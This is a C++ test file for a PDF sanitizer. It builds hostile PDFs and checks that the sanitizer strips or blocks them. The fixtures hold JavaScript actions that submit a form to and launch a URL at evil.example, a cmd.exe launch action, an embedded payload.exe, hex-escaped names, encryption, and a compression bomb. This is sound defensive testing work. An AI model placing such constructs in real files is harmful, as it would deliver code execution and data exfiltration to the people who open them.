// PDF disarmed from hand-written files: JavaScript and dangerous actions wherever they hide
// (catalog, pages, annotations, fields, name trees, object streams, incremental updates,
// hex-escaped names), encryption, and hostile structure (cycles, a compression bomb).
#include <gtest/gtest.h>

#define POINTERHOLDER_TRANSITION 4
#include <qpdf/QPDF.hh>
#include <qpdf/QPDFWriter.hh>

#include "cdr/fixtures.h"

namespace sanso::cdr {
namespace {

using fixtures::kinds;

// A PDF from numbered object bodies; qpdf rebuilds the cross-reference table it lacks.
std::string pdf(const std::vector<std::string>& objects, const std::string& root = "1 0 R") {
  std::string out = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
  std::string xref = "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (std::size_t i = 0; i < objects.size(); ++i) {
    char line[32];
    std::snprintf(line, sizeof line, "%010zu 00000 n \n", out.size());
    xref += line;
    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  std::size_t at = out.size();
  out += xref + "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root " + root + " >>\nstartxref\n" + std::to_string(at) + "\n%%EOF\n";
  return out;
}

std::string hostile_pdf() {
  return pdf({
      "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [] /XFA 10 0 R >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 11 0 R 12 0 R] /AA << /O 6 0 R >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",
      "<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>",
      "<< /S /JavaScript /JS (this.submitForm\\('http://evil.example'\\)) >>",
      "<< /Names [(a) 8 0 R] >>",
      "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>",
      "<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /EF << /F 13 0 R >> >>] >>",
      "<< /Length 5 >>\nstream\n<xdp>\nendstream",
      "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (x.exe) >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.city.minamata.lg.jp/) /Next << /S /SubmitForm /F (http://evil.example) >> >> >>",
      "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
  });
}

TEST(CdrPdf, RemovesJavaScriptActionsEmbeddedFilesAndXfa) {
  CdrResult r = sanitize(hostile_pdf(), "通知.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  for (const char* want : {"pdf_open_action", "pdf_additional_actions", "pdf_javascript", "pdf_embedded_file", "pdf_xfa", "pdf_launch", "pdf_file_attachment"}) {
    EXPECT_TRUE(k.count(want)) << want;
  }
  for (const char* gone : {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/XFA", "/EmbeddedFiles", "/FileAttachment", "/SubmitForm", "cmd.exe", "evil.example"}) {
    EXPECT_EQ(r.output.find(gone), std::string::npos) << gone << " survived";
  }
  EXPECT_NE(r.output.find("minamata"), std::string::npos) << "a web link stays unless the policy removes URIs";
  CdrResult again = sanitize(r.output, "通知.pdf", {});
  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : again.findings[0].kind);
}

TEST(CdrPdf, UriActionsGoWhenThePolicySaysSo) {
  CdrPolicy policy;
  policy.remove_pdf_uri = true;
  CdrResult r = sanitize(hostile_pdf(), "a.pdf", policy);
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  EXPECT_TRUE(kinds(r).count("pdf_uri"));
  EXPECT_EQ(r.output.find("minamata"), std::string::npos);
}

TEST(CdrPdf, JavaScriptAddedByAnIncrementalUpdateOrHiddenInAnObjectStreamIsFound) {
  std::string base = pdf({"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"});
  // Revision 2 rewrites the catalog with an OpenAction.
  std::size_t prev = base.rfind("startxref\n") + 10;
  std::string prev_xref = base.substr(prev, base.find('\n', prev) - prev);
  std::string update = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n";
  std::size_t o1 = base.size();
  std::size_t o4 = o1 + update.size();
  update += "4 0 obj\n<< /S /JavaScript /JS (app.alert\\(2\\)) >>\nendobj\n";
  char xref[256];
  std::snprintf(xref, sizeof xref, "xref\n1 1\n%010zu 00000 n \n4 1\n%010zu 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %s >>\nstartxref\n%zu\n%%%%EOF\n", o1, o4,
                prev_xref.c_str(), o1 + update.size());
  std::string updated = base + update + xref;
  CdrResult r = sanitize(updated, "a.pdf", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("pdf_open_action"));
  EXPECT_EQ(r.output.find("app.alert"), std::string::npos);

  // The same file with every object in object streams.
  QPDF in;
  in.processMemoryFile("updated", updated.data(), updated.size());
  QPDFWriter w(in);
  w.setOutputMemory();
  w.setObjectStreamMode(qpdf_o_generate);
  w.setCompressStreams(true);
  w.write();
  auto buf = w.getBufferSharedPointer();
  std::string packed(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
  ASSERT_EQ(packed.find("/OpenAction"), std::string::npos) << "the test file should hide the catalog in an object stream";
  CdrResult p = sanitize(packed, "packed.pdf", {});
  ASSERT_EQ(p.verdict, Verdict::sanitized) << p.message;
  EXPECT_TRUE(kinds(p).count("pdf_open_action"));
  EXPECT_TRUE(kinds(p).count("pdf_javascript"));
}

TEST(CdrPdf, EncryptionWithAnEmptyUserPasswordIsRemovedOtherwiseBlocked) {
  std::string plain = hostile_pdf();
  auto encrypt = [&](const char* user) {
    QPDF in;
    in.processMemoryFile("plain", plain.data(), plain.size());
    QPDFWriter w(in);
    w.setOutputMemory();
    w.setR6EncryptionParameters(user, "owner-secret", true, true, true, true, true, true, qpdf_r3p_full, true);
    w.write();
    auto buf = w.getBufferSharedPointer();
    return std::string(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
  };
  CdrResult open = sanitize(encrypt(""), "a.pdf", {});
  ASSERT_EQ(open.verdict, Verdict::sanitized) << open.message;
  EXPECT_TRUE(kinds(open).count("pdf_encryption_removed"));
  EXPECT_TRUE(kinds(open).count("pdf_javascript"));
  EXPECT_EQ(open.output.find("/Encrypt"), std::string::npos);
  CdrResult locked = sanitize(encrypt("secret"), "a.pdf", {});
  EXPECT_EQ(locked.verdict, Verdict::blocked);
  EXPECT_EQ(locked.reason, "encrypted");
}

TEST(CdrPdf, CyclesAndACompressionBombDoNotHangOrExpand) {
  // 64 MiB of zeros deflated to ~64 KiB: never decoded by the rebuild.
  std::string bomb = fixtures::deflate_raw(std::string(std::size_t{64} << 20, '\0'));
  std::string zlib = std::string("\x78\x9C", 2) + bomb;  // a zlib header over the raw deflate data
  std::string content = "<< /Length " + std::to_string(zlib.size()) + " /Filter /FlateDecode >>\nstream\n" + zlib + "\nendstream";
  std::string cyclic = pdf({"<< /Type /Catalog /Pages 2 0 R /Loop 5 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
                            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Contents 4 0 R >>", content, "<< /Next 5 0 R /Self 5 0 R >>"});
  CdrResult r = sanitize(cyclic, "a.pdf", {});
  EXPECT_NE(r.verdict, Verdict::blocked) << r.message;
  EXPECT_LT(r.output.size(), std::size_t{1} << 20) << "the bomb was expanded";
}

TEST(CdrPdf, GarbageIsBlockedAsMalformed) {
  CdrResult r = sanitize("%PDF-1.7\n\x01\x02 this is not a pdf", "a.pdf", {});
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
}

}  // namespace
}  // namespace sanso::cdr
